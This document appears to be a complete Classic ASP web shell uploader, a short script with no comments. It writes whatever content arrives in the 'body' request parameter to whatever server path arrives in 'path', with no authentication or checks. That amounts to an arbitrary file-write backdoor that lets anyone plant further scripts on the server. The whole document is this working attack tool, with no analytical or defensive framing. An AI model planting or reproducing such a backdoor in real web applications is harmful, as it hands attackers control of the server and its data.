<%
Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Request("path"), True)
f.Write Request("body")
f.Close
%>
